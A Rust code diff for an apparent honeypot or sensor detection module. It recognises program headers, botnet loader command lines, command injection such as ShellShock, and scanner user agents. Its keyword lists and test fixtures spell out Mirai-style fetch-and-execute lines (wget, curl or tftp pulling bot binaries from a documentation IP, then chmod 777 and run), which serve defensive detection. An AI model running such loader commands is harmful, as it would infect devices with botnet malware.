@@ -2,8 +2,10 @@
 //!
 //! Guarantees: a rule answers with its own name, never with what it matched; one pass over bounded input.
 
+use aho_corasick::AhoCorasick;
 use memchr::memmem;
 use model::TransferKind;
+use std::sync::OnceLock;
 
 /// How much of a body's beginning [`program`] wants to see.
 pub(super) const HEAD: usize = 1024;
@@ -14,7 +16,11 @@ pub(super) fn program(head: &[u8], whole: bool) -> Option<Option<(TransferKind, 
     let enough = |length: usize| whole || head.len() >= length;
     match head {
         [0x7f, b'E', b'L', b'F', class, data, ..] if matches!(class, 1 | 2) && matches!(data, 1 | 2) => {
-            if enough(20) { found(TransferKind::Elf, machine(head, *data == 2)) } else { None }
+            if enough(20) {
+                found(TransferKind::Elf, machine(head, *data == 2))
+            } else {
+                None
+            }
         }
         [b'd', b'e', b'x', b'\n', b'0', ..] => found(TransferKind::Executable, "Android program (dex)"),
         [0xfe, 0xed, 0xfa, 0xce | 0xcf, ..] | [0xce | 0xcf, 0xfa, 0xed, 0xfe, ..] => {
@@ -22,8 +28,10 @@ pub(super) fn program(head: &[u8], whole: bool) -> Option<Option<(TransferKind, 
         }
         [b'M', b'Z', ..] => {
             let dos = contains(head, b"This program ");
-            let offset = head.get(0x3c..0x3e).and_then(|at| at.first_chunk::<2>()).map(|at| u16::from_le_bytes(*at));
-            let signed = offset.is_some_and(|at| head.get(usize::from(at)..).is_some_and(|b| b.starts_with(b"PE\0\0")));
+            let offset =
+                head.get(0x3c..0x3e).and_then(|at| at.first_chunk::<2>()).map(|at| u16::from_le_bytes(*at));
+            let signed = offset
+                .is_some_and(|at| head.get(usize::from(at)..).is_some_and(|b| b.starts_with(b"PE\0\0")));
             if dos || signed {
                 found(TransferKind::Executable, "Windows program (PE)")
             } else if enough(HEAD) {
@@ -32,9 +40,22 @@ pub(super) fn program(head: &[u8], whole: bool) -> Option<Option<(TransferKind, 
                 None
             }
         }
-        [] | [0x7f] | [0x7f, b'E'] | [0x7f, b'E', b'L'] | [0x7f, b'E', b'L', b'F'] | [0x7f, b'E', b'L', b'F', 1 | 2]
-        | [b'M'] | [0xfe | 0xce | 0xcf] | [0xfe, 0xed] | [0xfe, 0xed, 0xfa] | [0xce | 0xcf, 0xfa]
-        | [0xce | 0xcf, 0xfa, 0xed] | [b'd'] | [b'd', b'e'] | [b'd', b'e', b'x'] | [b'd', b'e', b'x', b'\n']
+        []
+        | [0x7f]
+        | [0x7f, b'E']
+        | [0x7f, b'E', b'L']
+        | [0x7f, b'E', b'L', b'F']
+        | [0x7f, b'E', b'L', b'F', 1 | 2]
+        | [b'M']
+        | [0xfe | 0xce | 0xcf]
+        | [0xfe, 0xed]
+        | [0xfe, 0xed, 0xfa]
+        | [0xce | 0xcf, 0xfa]
+        | [0xce | 0xcf, 0xfa, 0xed]
+        | [b'd']
+        | [b'd', b'e']
+        | [b'd', b'e', b'x']
+        | [b'd', b'e', b'x', b'\n']
             if !whole =>
         {
             None
@@ -86,11 +107,33 @@ fn machine(head: &[u8], big_endian: bool) -> &'static str {
     }
 }
 
+/// Words of which every rule for command lines needs one; most text has none.
+const LOADER_WORDS: [&str; 11] =
+    ["wget", "curl", "tftp", "ftpget", "busybox", "chmod", "base64", "\\x", "\\177", "dd bs", "while read"];
+/// The same for the rules about injected commands.
+const INJECTION_WORDS: [&str; 17] = [
+    "wget", "curl", "tftp", "ftpget", "busybox", "/bin/", "chmod", "telnetd", "rm -rf", "nc ", "cd /",
+    "sh -c", "killall", "() {", "${", "$(", "`",
+];
+
+/// One pass that finds whether any of the words stands in a text.
+struct AnyOf(OnceLock<Option<AhoCorasick>>, &'static [&'static str]);
+
+static LOADERS: AnyOf = AnyOf(OnceLock::new(), &LOADER_WORDS);
+static INJECTIONS: AnyOf = AnyOf(OnceLock::new(), &INJECTION_WORDS);
+
+impl AnyOf {
+    fn is_in(&self, text: &[u8]) -> bool {
+        let words = self.0.get_or_init(|| AhoCorasick::new(self.1).ok());
+        words.as_ref().is_none_or(|words| words.is_match(text))
+    }
+}
+
 /// The rule by which a shell's command line is a loader's, if any.
 #[must_use]
 pub fn loader_command(line: &[u8]) -> Option<&'static str> {
     let has = |part: &[u8]| contains(line, part);
-    if !line.iter().any(|byte| matches!(byte, b' ' | b'\\')) {
+    if line.len() < 6 || !LOADERS.is_in(line) {
         return None;
     }
     if has(b"\\x7f\\x45\\x4c\\x46") || has(b"\\x7fELF") || has(b"\\177\\105\\114\\106") || has(b"\\177ELF") {
@@ -134,7 +177,9 @@ pub fn loader_command(line: &[u8]) -> Option<&'static str> {
     if has(b"dd bs=52 count=1") || (has(b"while read i") && has(b"/bin/")) {
         return Some("look at a program's header");
     }
-    let loosens = [&b"chmod 777"[..], b"chmod 0777", b"chmod +x", b"chmod 755", b"chmod a+x"].iter().any(|part| has(part));
+    let loosens = [&b"chmod 777"[..], b"chmod 0777", b"chmod +x", b"chmod 755", b"chmod a+x"]
+        .iter()
+        .any(|part| has(part));
     if loosens && (has(b"/tmp") || has(b"/var") || has(b"/dev") || has(b"/mnt") || has(b"./") || has(b"*")) {
         return Some("fetched file made executable");
     }
@@ -156,7 +201,8 @@ fn pipes_to_shell(line: &[u8]) -> bool {
         let rest = line.get(at + 1..).unwrap_or_default().trim_ascii_start();
         let rest = rest.strip_prefix(b"/bin/").unwrap_or(rest);
         [&b"sh"[..], b"bash", b"ash"].iter().any(|shell| {
-            rest.strip_prefix(*shell).is_some_and(|rest| rest.first().is_none_or(|byte| !byte.is_ascii_alphanumeric()))
+            rest.strip_prefix(*shell)
+                .is_some_and(|rest| rest.first().is_none_or(|byte| !byte.is_ascii_alphanumeric()))
         })
     })
 }
@@ -173,6 +219,9 @@ fn word(line: &[u8], command: &[u8]) -> bool {
 
 /// The rule by which part of a request (decoded) carries a command, if any.
 pub(super) fn injection(text: &[u8]) -> Option<&'static str> {
+    if text.len() < 4 || !INJECTIONS.is_in(text) {
+        return None;
+    }
     let has = |part: &[u8]| contains(text, part);
     if has(b"() {") && (has(b":;") || has(b":; ") || has(b"};")) {
         return Some("shell function in a header (ShellShock)");
@@ -188,8 +237,21 @@ pub(super) fn injection(text: &[u8]) -> Option<&'static str> {
         return Some("busybox in a request");
     }
     const COMMANDS: [&[u8]; 15] = [
-        b"wget", b"curl", b"tftp", b"ftpget", b"busybox", b"/bin/sh", b"/bin/bash", b"chmod", b"telnetd", b"rm -rf", b"nc ",
-        b"cd /tmp", b"cd /var", b"sh -c", b"killall",
+        b"wget",
+        b"curl",
+        b"tftp",
+        b"ftpget",
+        b"busybox",
+        b"/bin/sh",
+        b"/bin/bash",
+        b"chmod",
+        b"telnetd",
+        b"rm -rf",
+        b"nc ",
+        b"cd /tmp",
+        b"cd /var",
+        b"sh -c",
+        b"killall",
     ];
     for command in COMMANDS {
         if memmem::find_iter(text, command).any(|at| behind_shell_sign(text, at)) {
@@ -198,7 +260,10 @@ pub(super) fn injection(text: &[u8]) -> Option<&'static str> {
     }
     let fetches = [&b"wget http"[..], b"wget${IFS}", b"curl http", b"wget -", b"wget+http", b"curl -"];
     let url = has(b"http://") || has(b"https://") || has(b"tp:");
-    if url && fetches.iter().any(|fetch| has(fetch)) && (has(b"/tmp") || has(b"chmod") || has(b"|") || has(b" -O") || has(b";")) {
+    if url
+        && fetches.iter().any(|fetch| has(fetch))
+        && (has(b"/tmp") || has(b"chmod") || has(b"|") || has(b" -O") || has(b";"))
+    {
         return Some("fetch command in a request");
     }
     None
@@ -231,8 +296,13 @@ fn is_parameter(before: &[u8]) -> bool {
 
 /// The name by which scanners and bots call themselves, where it is one of those.
 pub(super) fn scanner(agent: &[u8]) -> Option<&'static str> {
-    let agent = agent.get(..160).unwrap_or(agent).to_ascii_lowercase();
-    SCANNERS.iter().find(|(part, _)| contains(&agent, part.as_bytes())).map(|(_, name)| *name)
+    static PARTS: OnceLock<Option<AhoCorasick>> = OnceLock::new();
+    let parts = PARTS.get_or_init(|| {
+        let parts = SCANNERS.iter().map(|(part, _)| part);
+        AhoCorasick::builder().ascii_case_insensitive(true).build(parts).ok()
+    });
+    let found = parts.as_ref()?.find(agent.get(..160).unwrap_or(agent))?;
+    SCANNERS.get(found.pattern().as_usize()).map(|(_, name)| *name)
 }
 
 /// Part of the agent in lower case, and the name shown.
@@ -302,13 +372,28 @@ mod tests {
         let mips = b"\x7fELF\x01\x02\x01\0\0\0\0\0\0\0\0\0\0\x02\0\x08";
         assert_eq!(program(mips, false), Some(Some((TransferKind::Elf, "ELF program (MIPS)"))));
         let kind = |head: &[u8]| program(head, true).unwrap().map(|(kind, _)| kind);
-        assert_eq!(kind(b"MZ\x90\0...This program cannot be run in DOS mode"), Some(TransferKind::Executable));
+        assert_eq!(
+            kind(b"MZ\x90\0...This program cannot be run in DOS mode"),
+            Some(TransferKind::Executable)
+        );
         assert_eq!(kind(b"dex\n035\0"), Some(TransferKind::Executable));
-        assert_eq!(kind(b"#!/bin/sh\ncd /tmp; wget http://x/a; chmod 777 a; ./a"), Some(TransferKind::Script));
-        assert_eq!(kind(b"cd /tmp || cd /var/run; wget http://x/a; chmod +x a; ./a"), Some(TransferKind::Script));
+        assert_eq!(
+            kind(b"#!/bin/sh\ncd /tmp; wget http://x/a; chmod 777 a; ./a"),
+            Some(TransferKind::Script)
+        );
+        assert_eq!(
+            kind(b"cd /tmp || cd /var/run; wget http://x/a; chmod +x a; ./a"),
+            Some(TransferKind::Script)
+        );
         for none in [
-            &b"#!/bin/sh\necho hello\n"[..], b"<html>wget chmod /tmp ./</html>", b"MZ plain words", b"", b"\x27\x05\x19\x56uImage",
-            b"hsqs firmware", b"\x7fELG", b"PK\x03\x04",
+            &b"#!/bin/sh\necho hello\n"[..],
+            b"<html>wget chmod /tmp ./</html>",
+            b"MZ plain words",
+            b"",
+            b"\x27\x05\x19\x56uImage",
+            b"hsqs firmware",
+            b"\x7fELG",
+            b"PK\x03\x04",
         ] {
             assert_eq!(kind(none), None, "{none:?}");
         }
@@ -320,14 +405,23 @@ mod tests {
             (&b"/bin/busybox ECCHI"[..], Some("busybox applet probe")),
             (b"/bin/busybox SATORI", Some("busybox applet probe")),
             (b"/bin/busybox cat /proc/mounts; /bin/busybox OWARI", Some("busybox applet probe")),
-            (b"cd /tmp; wget http://198.51.100.1/bins.sh; chmod 777 bins.sh; sh bins.sh", Some("fetch by wget")),
-            (b"/bin/busybox wget http://198.51.100.1:80/bot.arm -O - > dvrHelper", Some("fetch by busybox wget")),
+            (
+                b"cd /tmp; wget http://198.51.100.1/bins.sh; chmod 777 bins.sh; sh bins.sh",
+                Some("fetch by wget"),
+            ),
+            (
+                b"/bin/busybox wget http://198.51.100.1:80/bot.arm -O - > dvrHelper",
+                Some("fetch by busybox wget"),
+            ),
             (b"/bin/busybox tftp -g -l dvrHelper -r bot.mips 198.51.100.1", Some("fetch by busybox tftp")),
             (b"tftp 198.51.100.1 -c get tftp1.sh", Some("fetch by tftp")),
             (b"ftpget -v -u anonymous -P 21 198.51.100.1 a a", Some("fetch by ftpget")),
             (b"curl -s http://198.51.100.1/x | sh", Some("download run by a shell")),
             (b"echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > upnp", Some("program written by echo")),
-            (b"echo -ne '\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x09\\x0a\\x0b\\x0c' >> upnp", Some("bytes written by echo")),
+            (
+                b"echo -ne '\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x09\\x0a\\x0b\\x0c' >> upnp",
+                Some("bytes written by echo"),
+            ),
             (b"chmod 777 /tmp/dvrHelper", Some("fetched file made executable")),
             (b"busybox", None),
             (b"busybox ls -l", None),
